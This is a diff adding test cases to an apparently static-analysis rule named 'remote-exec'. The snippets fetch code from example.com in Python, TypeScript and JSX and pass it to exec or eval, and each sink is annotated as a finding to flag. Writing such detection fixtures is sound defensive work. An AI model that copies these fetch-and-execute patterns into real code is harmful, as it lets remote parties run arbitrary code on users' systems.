@@ -190,6 +190,74 @@ describe('remote-exec', () => {
       `;
     });
 
+    it('through functions in functions, generators and decorators', () => {
+      python`
+        import functools
+        import requests
+
+        def outer(url):
+            def inner():
+                return requests.get(url).text
+
+            exec(inner())
+                 ^^^^^^^ remote-exec
+
+        def lines(url):
+            for line in requests.get(url).iter_lines():
+                yield line
+
+        for line in lines("https://example.com/a.py"):
+            exec(line)
+                 ^^^^ remote-exec
+
+        def logged(function):
+            @functools.wraps(function)
+            def wrapper(*arguments, **options):
+                return function(*arguments, **options)
+
+            return wrapper
+
+        @logged
+        def download():
+            return requests.get("https://example.com/a.py").text
+
+        exec(download())
+             ^^^^^^^^^^ remote-exec
+
+        def remember():
+            global SOURCE
+            SOURCE = requests.get("https://example.com/a.py").text
+
+        def replay():
+            exec(SOURCE)
+                 ^^^^^^ remote-exec
+      `;
+    });
+
+    it('through buffers and what can fail', () => {
+      python`
+        import io
+        import requests
+        stream = io.BytesIO(requests.get("https://example.com/a.py").content)
+        exec(stream.read())
+             ^^^^^^^^^^^^^ remote-exec
+        buffer = io.StringIO()
+        buffer.write(requests.get("https://example.com/a.py").text)
+        exec(buffer.getvalue())
+             ^^^^^^^^^^^^^^^^^ remote-exec
+        try:
+            text = requests.get("https://example.com/a.py").text
+        except OSError:
+            text = ""
+        exec(text)
+             ^^^^ remote-exec
+        texts = {url: requests.get(url).text for url in urls}
+        for url, text in texts.items():
+            exec(text)
+                 ^^^^ remote-exec
+      `;
+    });
+
     it('and shows the way', () => {
       python`
         import requests
@@ -435,7 +503,39 @@ describe('remote-exec', () => {
       `;
     });
 
+    it('through streams and loops', () => {
+      typescript`
+        const response = await fetch('https://example.com/a.js');
+        const reader = response.body!.getReader();
+        const decoder = new TextDecoder();
+        let text = '';
+        while (true) {
+          const { done, value } = await reader.read();
+          if (done) break;
+          text += decoder.decode(value);
+        }
+        eval(text);
+             ^^^^ remote-exec
+        for await (const chunk of (await fetch('https://example.com/b.js')).body!) eval(String(chunk));
+                                                                                        ^^^^^^^^^^^^^ remote-exec
+        let code = '';
+        try {
+          code = await (await fetch('https://example.com/c.js')).text();
+        } catch {
+          code = '1 + 1';
+        }
+        eval(code);
+             ^^^^ remote-exec
+      `;
+    });
+
     it('between markup', () => {
+      javascript`
+        export const Plugin = ({ url }) => (
+          <Loader onLoad={() => fetch(url).then((response) => response.text()).then((code) => eval(code))} />
+                                                                                                   ^^^^ remote-exec
+        );
+      `;
       tsx`
         import { useEffect } from 'react';
         export function Widget({ url }: { url: string }) {
